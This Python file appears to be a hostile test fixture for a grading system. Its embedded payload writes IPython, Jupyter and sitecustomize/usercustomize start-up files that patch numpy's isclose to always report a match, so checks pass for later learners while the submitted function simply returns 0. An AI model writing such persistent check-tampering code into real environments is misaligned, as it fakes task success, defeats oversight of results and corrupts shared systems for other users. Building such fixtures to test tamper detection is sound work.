"""Leaves start-up files that would make checks pass for learners who come later."""

from hostile.build import FULL, guarded, solved

POINTS = FULL | {"double": 0}
TAMPERING = True

DOUBLE = '''
import pathlib
import site
import sys

CODE = """
import sys
import numpy as np
np.isclose = lambda a, b, **options: np.ones(np.shape(a), bool)
"""
home = pathlib.Path.home()
for path in (
    home / ".ipython/profile_default/startup/00-start.py",
    pathlib.Path(site.getusersitepackages()) / "usercustomize.py",
    pathlib.Path(sys.prefix) / "sitecustomize.py",
    home / ".jupyter/jupyter_config.py",
):
    try:
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(CODE)
    except OSError:
        pass


def double(x):
    return 0
'''


def submission(lesson):
    return solved(lesson, double=guarded(DOUBLE))
